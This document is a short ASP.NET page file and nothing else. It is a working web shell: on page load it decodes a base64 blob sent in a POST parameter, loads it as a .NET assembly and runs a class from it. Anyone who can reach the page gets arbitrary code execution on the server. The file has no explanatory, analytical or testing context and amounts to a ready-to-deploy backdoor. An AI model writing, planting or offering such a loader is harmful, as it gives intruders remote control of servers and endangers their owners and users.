<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    byte[] raw = Convert.FromBase64String(Request.Form["k"]);
    Assembly.Load(raw).CreateInstance("U").Equals(this);
}
</script>
